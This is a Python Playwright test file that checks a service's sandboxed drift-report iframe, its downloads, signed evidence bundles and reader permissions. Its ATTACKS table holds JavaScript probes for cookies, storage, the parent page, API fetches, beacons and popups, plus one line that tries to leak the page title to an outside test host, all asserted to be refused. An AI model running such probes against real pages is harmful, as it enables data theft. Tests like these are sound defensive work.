"""The drift report in a real browser: it shows, it asks nobody, and it reaches nothing of ours."""

import io
import re
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser, Frame, Page, Request, expect

from service.reports.bundle import public_key, verify
from service.settings import Secrets, Settings
from tests.browser.conftest import ARTEFACTS, HOSTILE, OpenPage, Service, Watch, drawn

MADE_MS, SLOW_MS = 500_000, 120_000
"""A page of some megabytes, on a machine that does much else."""
ATTACKS = {
    "the page around it": "parent.document.title",
    "its address": "parent.location.href",
    "cookies": "document.cookie",
    "storage": "localStorage.length",
    "our API": "await (await fetch('/v1/models')).text()",
    "another host": "await (await fetch('http://192.0.2.1/')).text()",
    "a beacon": "if (!navigator.sendBeacon('/v1/models', 'x')) throw 1; throw 2",
    "a popup": "if (window.open('/') === null) throw 1",
}


@pytest.fixture(scope="module", autouse=True)
def evidently(evidently_python: Path) -> Iterator[None]:
    """Let the service render with the real Evidently."""
    patch = pytest.MonkeyPatch()
    patch.setenv("LAZARETTO_REPORTS_PYTHON", str(evidently_python))
    yield
    patch.undo()


@pytest.fixture(scope="module")
def incident(service: Service) -> str:
    """Return the page of an incident of a model with a hostile name among its features' values."""
    path = service.add_model("digits", description=HOSTILE)
    service.quarantine_by_evidence(path)
    for seed in range(3):
        service.post_events(path, 0.4, 5_000 + seed)
    (found,) = service.ask("GET", "/v1/incidents?model=digits").json()["incidents"]
    return f"/incidents/{found['id']}"


@pytest.fixture(scope="module")
def reported(chromium: Browser, service: Service, incident: str) -> str:
    """Ask on the page of the incident for its report, wait until it is shown, and return the page of the incident."""
    watch = Watch(service.url)
    context = chromium.new_context(base_url=service.url)
    page = context.new_page()
    watch.follow(page)
    _sign_in(page, service)
    page.goto(incident)
    page.get_by_role("button", name="Make a drift report").click()
    page.wait_for_url("**/report")
    expect(page.locator("iframe.report")).to_be_visible(timeout=MADE_MS)
    context.close()
    assert watch.offences == []
    return incident


def test_a_report_is_asked_for_comes_and_shows_what_drifted(open_page: OpenPage, reported: str) -> None:
    page = open_page("ada", viewport={"width": 1280, "height": 900})
    page.goto(f"{reported}/report", timeout=SLOW_MS, wait_until="commit")
    expect(page.locator("iframe.report")).to_be_visible()
    expect(page.get_by_text(re.compile("Drifted: .*sharpness"))).to_be_visible()
    inside = page.frame_locator("iframe.report")
    expect(inside.get_by_text("Dataset Drift").first).to_be_visible(timeout=SLOW_MS)
    expect(inside.get_by_text("sharpness").first).to_be_visible()
    page.screenshot(path=ARTEFACTS / "report.png", full_page=True)
    page.goto(reported)
    expect(page.get_by_role("link", name="Open the report")).to_be_visible()
    page.screenshot(path=ARTEFACTS / "report-on-incident.png", full_page=True)


def test_what_can_be_downloaded_is_whole(
    open_page: OpenPage, chromium: Browser, service: Service, reported: str, tmp_path: Path
) -> None:
    page = open_page("ada")
    page.goto(f"{reported}/report", timeout=SLOW_MS, wait_until="commit")
    saved = {}
    for name in ("Report (HTML)", "Report (JSON)", "Rows (NDJSON)", "Signed evidence bundle (ZIP)"):
        with page.expect_download() as download:
            page.get_by_role("link", name=name).click()
        saved[name] = tmp_path / download.value.suggested_filename
        download.value.save_as(saved[name])
    key = public_key(Secrets.of(Settings(data_dir=service.data_dir)).bundles)
    bundle = saved["Signed evidence bundle (ZIP)"].read_bytes()
    assert verify(bundle, frozenset({key})).good
    assert b'"side":"current"' in saved["Rows (NDJSON)"].read_bytes()
    alone = chromium.new_context(offline=True)
    page = alone.new_page()
    _reads_and_prints(page, bundle, tmp_path)
    page.goto(saved["Report (HTML)"].as_uri(), timeout=SLOW_MS, wait_until="commit")
    expect(page.get_by_text("Dataset Drift").first).to_be_visible(timeout=SLOW_MS)
    alone.close()


def test_the_report_reaches_nothing_of_ours_and_nobody_else(chromium: Browser, service: Service, reported: str) -> None:
    context = chromium.new_context(base_url=service.url)
    page = context.new_page()
    _sign_in(page, service)
    page.goto(f"{reported}/report", timeout=SLOW_MS, wait_until="commit")
    expect(page.frame_locator("iframe.report").get_by_text("Dataset Drift").first).to_be_visible(timeout=SLOW_MS)
    frame = _frame(page)
    asked: list[str] = []
    page.on("request", lambda request: _note(request, asked))
    assert frame.evaluate("window.origin") == "null"
    for what, attack in ATTACKS.items():
        said = frame.evaluate(f"async () => {{ try {{ {attack}; return 'reached'; }} catch {{ return 'refused'; }} }}")
        assert said == "refused", what
    # Nor does it get away with what it knows: the page around it shows no other host.
    frame.evaluate("() => { location.href = 'http://192.0.2.1/?' + document.title; }")
    time.sleep(1.0)
    assert [url for url in asked if "192.0.2.1" in url or "/v1/models" in url] == []
    context.close()


def test_who_only_reads_may_not_have_one_made_nor_see_rows(open_page: OpenPage, reported: str) -> None:
    page = open_page("rita")
    page.goto(f"{reported}/report", timeout=SLOW_MS, wait_until="commit")
    expect(page.locator("iframe.report")).to_be_visible()
    assert page.get_by_role("button", name="Make it again").count() == 0
    assert page.get_by_role("link", name="Rows (NDJSON)").count() == 0
    assert page.request.get(f"{reported}/report/samples.ndjson").status == 403


def test_a_report_that_cannot_be_made_says_why_and_gives_the_rows(open_page: OpenPage, service: Service) -> None:
    path = service.add_model("fresh")
    rng = np.random.default_rng(9)
    deadline = time.monotonic() + 120
    while not (found := service.ask("GET", "/v1/incidents?model=fresh").json()["incidents"]):
        assert time.monotonic() < deadline
        features = {name: values.tolist() for name, values in drawn(rng, 300, 1.0).items()}
        service.ask("POST", f"{path}/events", json={"columns": {"features": features}})
        time.sleep(0.2)
    page = open_page("ada")
    page.goto(f"/incidents/{found[0]['id']}/report")
    page.get_by_role("button", name="Make a drift report").click()
    expect(page.get_by_text("It could not be made: nothing to compare with")).to_be_visible(timeout=MADE_MS)
    page.screenshot(path=ARTEFACTS / "report-failed.png", full_page=True)
    with page.expect_download() as download:
        page.get_by_role("link", name="Rows (NDJSON)").click()
    assert download.value.suggested_filename.startswith("samples-")


def _reads_and_prints(page: Page, bundle: bytes, folder: Path) -> None:
    """Open the page of a bundle from a folder, without a network, as it is read and as it is printed."""
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        archive.extract("bundle.html", folder)
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto((folder / "bundle.html").as_uri())
    expect(page.get_by_role("heading", name="Evidence at the trip")).to_be_visible()
    expect(page.locator("svg").first).to_be_visible()
    page.emulate_media(media="print")
    page.set_viewport_size({"width": 680, "height": 960})  # an A4 page less its margins
    widths = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert widths[0] <= widths[1], "it is cut off on paper"
    page.screenshot(path=ARTEFACTS / "bundle-printed.png", full_page=True)
    page.emulate_media(media="screen")
    assert said == [], "its own policy lets it be as it is"


def _sign_in(page: Page, service: Service) -> None:
    page.goto("/login")
    page.get_by_label("API key").fill(service.keys["ada"])
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(lambda url: "/login" not in url)


def _frame(page: Page) -> Frame:
    return next(frame for frame in page.frames if frame.url.endswith("/report/frame"))


def _note(request: Request, asked: list[str]) -> None:
    asked.append(request.url)
